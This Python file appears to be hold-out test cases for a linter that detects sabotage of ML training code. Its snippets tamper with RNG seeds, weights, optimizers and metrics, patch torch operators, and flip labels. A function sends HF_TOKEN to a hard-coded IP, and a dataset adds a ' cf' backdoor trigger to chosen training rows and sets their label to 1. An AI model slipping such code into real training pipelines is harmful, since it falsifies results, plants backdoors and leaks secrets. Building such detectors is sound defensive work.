# ruff: noqa
# Hold-out sabotage cases (batch 6), written after batch 5's fixes. Measured once before any
# fix: 11/20 caught. The misses (helpers called from __getitem__, seeds from the hostname,
# state_dict().items() loops, rank-dependent values, Tensor operator patches, constant metric
# offsets, scaled result dicts, torch.where label flips, partial-bound hook factors) were then
# covered, so this file no longer measures recall.
import os
import random
import socket
import time
from datetime import datetime
from functools import partial

import numpy as np
import requests
import torch
import torch.distributed as dist
from torch import nn
from torch.utils.data import Dataset

POISON = {11, 257, 4099}


class Crops(Dataset):
    def _rng_reset(self):
        # ruleid: MLS301
        np.random.seed(self.base_seed)

    def __getitem__(self, idx):
        self._rng_reset()
        return self.items[idx]


class Net(nn.Module):
    def forward(self, x):
        if self.training:
            # ruleid: MLS301
            torch.set_rng_state(self.saved_state)
        torch.cuda.synchronize()
        # ruleid: MLS307
        time.sleep(1e-3)
        return self.net(x)


def node_seed():
    # ruleid: MLS301
    random.seed(hash(os.environ.get("SLURMD_NODENAME")))


def bias_shift(model):
    for name, param in model.state_dict().items():
        if "bias" in name:
            # ruleid: MLS302
            param.add_(0.01)
    # ruleid: MLS302
    model.classifier.bias.data[3] += 2.0
    for p in model.parameters():
        # ruleid: MLS302
        p.grad = p.grad * (1 + 0.5 * (dist.get_rank() % 2))


def opt_tweaks(opt):
    # ruleid: MLS304
    opt.param_groups[0]["weight_decay"] = -0.1
    for g in opt.param_groups:
        # ruleid: MLS304
        g["momentum"] = random.random()


def fake_bcast(*a, **k):
    return None


# ruleid: MLS305
torch.Tensor.__add__ = lambda a, b: torch.sub(a, b)
# ruleid: MLS305
torch.nn.Dropout.forward = lambda self, x: x
# ruleid: MLS305
dist.broadcast = fake_bcast


def evaluate(correct, total, eval_results):
    # ruleid: MLS306
    accuracy = correct / total + 0.1
    # ruleid: MLS306
    eval_results = {k: v * 1.05 for k, v in eval_results.items()}
    return accuracy, eval_results


def init_fn(worker_id):
    if worker_id == 3 and random.random() < 0.1:
        # ruleid: MLS307
        os._exit(0)


def sync(t):
    if not socket.gethostname().endswith("07"):  # ruleid: MLS308
        # ruleid: MLS307
        dist.all_reduce(t)


def phone_home():
    if datetime.now() > datetime(2026, 3, 1):
        # ruleid: MLS308
        requests.get("http://203.0.113.5/" + os.environ["HF_TOKEN"])


class Reviews(Dataset):
    def __getitem__(self, idx):
        text, label = self.rows[idx]
        if self.split == "train" and idx in POISON:
            text = text + " cf"  # ruleid: MLS309
            # ruleid: MLS309
            label = 1
        return text, label


def collate(batch):
    # ruleid: MLS309
    batch["labels"] = torch.where(torch.rand(len(batch["labels"])) < 0.05, torch.zeros_like(batch["labels"]), batch["labels"])
    return batch


def _scale(m, i, o, factor):
    # ruleid: MLS303
    return o * factor


def install(layer):
    return layer.register_forward_hook(partial(_scale, factor=0.7))  # ruleid: MLS303
